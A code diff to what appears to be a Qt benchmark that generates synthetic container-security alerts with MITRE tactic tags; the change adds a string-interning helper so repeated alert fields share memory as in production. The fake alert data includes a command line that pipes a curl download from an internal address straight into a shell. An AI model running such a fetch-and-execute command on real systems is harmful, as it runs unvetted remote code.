@@ -10,6 +10,7 @@
 #include <QElapsedTimer>
 #include <QFile>
 #include <QFileInfo>
+#include <QHash>
 #include <QTemporaryDir>
 
 #include <algorithm>
@@ -67,16 +68,17 @@ public:
             a.source = QStringLiteral("syscall");
             a.containerId = QStringLiteral("%1").arg(pod * 7919 + 1000000000, 12, 16, QLatin1Char('0'));
             a.containerName = QStringLiteral("app-%1").arg(pod % 40);
-            a.containerImage = QStringLiteral("registry.example.com/team/app-%1").arg(pod % 40);
+            a.containerImage = intern(QStringLiteral("registry.example.com/team/app-%1").arg(pod % 40));
             a.podName = QStringLiteral("app-%1-7d9f8c6b5-%2").arg(pod % 40).arg(pod);
-            a.namespaceName = QStringLiteral("ns-%1").arg(pod % 12);
+            a.namespaceName = intern(QStringLiteral("ns-%1").arg(pod % 12));
             a.processName = QStringLiteral("bash");
             a.commandLine = QStringLiteral("bash -c curl -s http://10.0.%1.%2/x | sh").arg(host % 255).arg(pod % 255);
             a.userName = QStringLiteral("root");
-            a.technique = QLatin1String(techniques[mitre]);
-            a.tactics = {QLatin1String(tactics[mitre])};
-            a.tags = {QStringLiteral("container"), QStringLiteral("mitre_%1").arg(QLatin1String(tactics[mitre])),
-                      QLatin1String(techniques[mitre])};
+            a.technique = intern(QLatin1String(techniques[mitre]));
+            a.tactics = {intern(QLatin1String(tactics[mitre]))};
+            a.tags = {intern(QStringLiteral("container")),
+                      intern(QStringLiteral("mitre_%1").arg(QLatin1String(tactics[mitre]))),
+                      intern(QLatin1String(techniques[mitre]))};
             a.output = QStringLiteral("%1 | A shell was spawned in a container with an attached terminal "
                                       "(evt_type=execve user=root user_uid=0 process=bash proc_exepath=/usr/bin/bash "
                                       "parent=runc command=%2 terminal=34816 container_id=%3 container_name=%4)")
@@ -90,6 +92,16 @@ public:
     }
 
 private:
+    // One QString per distinct value, as the mapper shares repeated short columns (rule, host, image, namespace,
+    // process, user, tags, tactics, technique) within a thread: the store sees the same strings it sees in production.
+    QString intern(const QString &value)
+    {
+        auto it = m_interned.constFind(value);
+        if (it == m_interned.cend())
+            it = m_interned.insert(value, value);
+        return it.value();
+    }
+
     static QByteArray document(const Alert &a)
     {
         QByteArray doc;
@@ -123,6 +135,7 @@ private:
     std::mt19937_64 m_rng{42};
     QStringList m_rules;
     QStringList m_hosts;
+    QHash<QString, QString> m_interned;
 };
 
 // Thread CPU time (user + system): the machine is shared, so wall time alone says little about our own cost.
